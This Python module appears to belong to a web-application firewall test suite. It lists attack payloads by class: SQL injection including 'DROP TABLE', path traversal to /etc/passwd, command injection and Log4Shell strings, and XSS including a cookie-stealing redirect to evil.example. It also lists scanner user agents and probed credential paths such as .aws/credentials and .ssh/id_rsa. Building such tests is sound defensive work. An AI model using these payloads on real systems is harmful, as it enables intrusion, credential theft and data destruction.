"""Attacks as texts, by their class, each with what an answer shows if it had its way. Pure.

In a text ``{n}`` is a number of its own; in a proof, a pattern too, and ``{n6}`` and ``{n7}`` are six and seven
times it: an answer that merely repeats the text has none of them.
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from dataclasses import dataclass

SQL, XSS, TRAVERSAL, COMMAND = "SQL injection", "cross-site scripting", "path traversal", "command injection"
PROTOCOL, SMUGGLING, SCANNER = "header and protocol tricks", "request smuggling", "scanners"
KINDS = (SQL, XSS, TRAVERSAL, COMMAND, PROTOCOL, SMUGGLING, SCANNER)
#: what a file shows that commands leave, on any server
CANARY = "/tmp/waf-canary"
#: a text that sleeps for 3 s had its way if its answer takes so much longer than that of one that does not sleep
SLOW_S = 2.5
#: scripts that every input is given; text that others read is given all of them
FEW_SCRIPTS = 14
_SLEEPS = re.compile(r"sleep|benchmark|waitfor", re.I)


@dataclass(frozen=True)
class Payload:
    """``proof``: a pattern in an answer, head and body; none for a text that is its own proof if it comes back raw."""

    text: str
    proof: str = ""

    @property
    def slow(self) -> bool:
        return bool(_SLEEPS.search(self.text))

    def numbered(self, n: int) -> Payload:
        """With a number of its own."""
        values = {"{n7}": str(7 * n), "{n6}": str(6 * n), "{n}": str(n)}
        text, proof = self.text, self.proof or re.escape(self.text)
        for mark, value in values.items():
            text, proof = text.replace(mark, value), proof.replace(re.escape(mark), value).replace(mark, value)
        return Payload(text, proof)


_DATABASE = r"SQL syntax|XPATH syntax|MariaDB server|Unknown column|pymysql|OperationalError|waf-{n}\b(?!')"
_FILE = r"root:x:0:0|secret_key|\[extensions\]|\[boot loader\]|PATH=/(usr|bin|sbin)"
_RUN = r"uid=\d+\(|root:x:0:0|waf-{n6}\b|\b{n7}\b"

_SQL = """\
' OR '1'='1' --\x20
admin'/*
' OR 1=1#
") OR ("1"="1
' UNION SELECT CONCAT('waf','-{n}'),2,3 --\x20
-1 UNION ALL SELECT CONCAT('waf','-{n}'),NULL,NULL,NULL
'; DROP TABLE messages; --\x20
' AND SLEEP(3) --\x20
1 AND (SELECT 1 FROM (SELECT SLEEP(3))a)
1' AND extractvalue(1,concat(0x7e,version())) --\x20
1; INSERT INTO users (name) VALUES (CONCAT('waf','-{n}'))
x' AND 1=(SELECT COUNT(*) FROM information_schema.tables) --\x20
%27%20OR%201%3D1%23
1/**/UnIoN/**/SeLeCt/**/1,2,3
"""
_TRAVERSAL = """\
../../../../../../etc/passwd
..%2f..%2f..%2f..%2fetc%2fpasswd
%252e%252e%252f%252e%252e%252fetc%252fpasswd
....//....//....//etc/passwd
..\\..\\..\\windows\\win.ini
/etc/passwd
file:///etc/passwd
..%c0%af..%c0%afetc/passwd
/proc/self/environ
../../../run/app/config.json
"""
_COMMAND = """\
; echo waf-$((6*{n}))
| id
`sleep 3`
$(sleep 3)
& touch /tmp/waf-canary
|| cat /etc/passwd
%0aid
() { :;}; echo; echo waf-$((6*{n}))
${jndi:ldap://192.0.2.66/a}
{{7*{n}}}
<?php system('id'); ?>
${{7*{n}}}
"""
_XSS = """\
<script>alert('{n}')</script>
<ScRiPt>alert({n})</sCrIpT>
<script src=//evil.example/{n}.js></script>
<img src=x onerror=alert({n})>
<svg/onload=alert({n})>
<svg><script>alert({n})</script></svg>
<body onload=alert({n})>
<iframe src="javascript:alert({n})"></iframe>
<a href="javascript:alert({n})">here</a>
<a href="jav&#x09;ascript:alert({n})">here</a>
"><script>alert({n})</script>
'><img src=x onerror=alert({n})>
" onmouseover="alert({n})
' autofocus onfocus=alert({n}) x='
<details open ontoggle=alert({n})>
<input autofocus onfocus=alert({n})>
<video><source onerror="alert({n})"></video>
<math><a xlink:href="javascript:alert({n})">x</a></math>
<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=={n}"></object>
<embed src="javascript:alert({n})">
<form action="javascript:alert({n})"><input type=submit></form>
<meta http-equiv="refresh" content="0;url=javascript:alert({n})">
<link rel=stylesheet href="javascript:alert({n})">
<base href="javascript:alert({n})//">
<style>@import 'javascript:alert({n})';</style>
<div style="background:url(javascript:alert({n}))">x</div>
<marquee onstart=alert({n})>x</marquee>
<select onfocus=alert({n}) autofocus></select>
<img src="x` `<script>alert({n})</script>"` `>
<scr<script>ipt>alert({n})</scr</script>ipt>
<img/src='x'/onerror='alert({n})'>
<IMG SRC=x ONERROR=&#97;lert({n})>
<script>eval(atob('YWxlcnQoMSk={n}'))</script>
<script>document.location='//evil.example/'+document.cookie+{n}</script>
<svg><animate onbegin=alert({n}) attributeName=x dur=1s>
<template><script>alert({n})</script></template>
<noscript><p title="</noscript><img src=x onerror=alert({n})>">
javascript:alert({n})
<!--><script>alert({n})</script>-->
<xss id=x tabindex=1 onactivate=alert({n})></xss>
<button formaction=javascript:alert({n})>x</button>
<isindex action=j&Tab;a&Tab;vas&Tab;c&Tab;r&Tab;ipt:alert({n}) type=image>
"""


def payloads(kind: str) -> tuple[Payload, ...]:
    """The texts of a class; of those that are not about texts there are none."""
    proofs = {SQL: _DATABASE, XSS: "", TRAVERSAL: _FILE, COMMAND: _RUN}
    texts = {SQL: _SQL, XSS: _XSS, TRAVERSAL: _TRAVERSAL, COMMAND: _COMMAND}
    return tuple(Payload(text, proofs[kind]) for text in texts.get(kind, "").splitlines())


def awake(raw: bytes) -> bytes:
    """The same request, of the same length, that sleeps for 0 s."""
    return re.sub(rb"(?i)(sleep(?:\(|%28| |%20|\+))3", rb"\g<1>0", raw)


def scripts() -> Iterator[str]:
    """Scripts for text that others read, in more spellings than are sent: one engine judges them all."""
    for number, payload in enumerate(payloads(XSS)):
        text = payload.numbered(10_000 + number).text
        for plain in (text, f"Hello, look at this: {text} - nice, isn't it?", text.replace(" ", "\n")):
            yield plain
            yield plain.replace("alert", "confirm").replace("script", "SCRIPT")
            yield plain.replace("<script", "<script/x").replace("<img ", "<img\f")
            yield plain.replace("=", " = ")


#: of the tools that look for holes
SCANNERS = (
    "sqlmap/1.7.2#stable (https://sqlmap.org)",
    "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:Port Check)",
    "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
    "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
    "gobuster/3.6",
    "DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)",
    "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)",
    "Mozilla/4.75 [en] (X11, U; Nessus)",
    "Mozilla/5.0 [en] (X11, U; OpenVAS-VT 21.4.4)",
    "Acunetix-Product (WVS) Acunetix Web Vulnerability Scanner",
    "Arachni/v1.6.1.3",
    "w3af.org",
    "Mozilla/5.0 zgrab/0.x",
    "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
    "Fuzz Faster U Fool v2.1.0-dev",
    "feroxbuster/2.10.1",
    "Mozilla/5.0 (Hydra)",
    "Havij",
    "sqlninja",
    "commix/v3.8-stable (https://commixproject.com)",
    "Wfuzz/3.1.0",
    "WhatWeb/0.5.5",
    "httpx - Open-source project (github.com/projectdiscovery/httpx)",
    "Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)",
)
_PROBED = """\
/.git/config /.git/HEAD /.svn/entries /.env /.env.bak /.aws/credentials /.ssh/id_rsa /.htaccess /.htpasswd /.DS_Store
/wp-login.php /wp-admin/ /xmlrpc.php /phpmyadmin/index.php /phpinfo.php /admin/ /administrator/ /console /debug
/server-status /server-info /nginx_status /actuator/env /actuator/heapdump /manager/html /solr/admin/cores
/backup.sql /dump.sql /backup.tar.gz /config.json /config.php.bak /web.config /api/v1/users /graphql /swagger.json
/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php /HNAP1/ /boaform/admin/formLogin /owa/auth/logon.aspx
/index.php?s=/Index/think/app /?XDEBUG_SESSION_START=phpstorm /login.action /struts2-showcase/ /telescope/requests
/cgi-bin/test.cgi /static/../app/config.json /static/..%2f..%2fetc/passwd /static/%2e%2e/%2e%2e/etc/passwd
/static../etc/passwd"""
PROBED = _PROBED.split()
